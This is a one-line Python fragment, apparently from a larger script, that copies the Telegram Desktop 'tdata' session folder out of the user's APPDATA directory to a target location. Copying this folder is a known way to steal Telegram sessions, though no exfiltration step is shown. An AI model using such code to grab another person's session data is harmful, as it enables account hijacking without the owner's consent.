shutil.copytree(os.environ["APPDATA"] + "\\Telegram Desktop\\tdata", target)
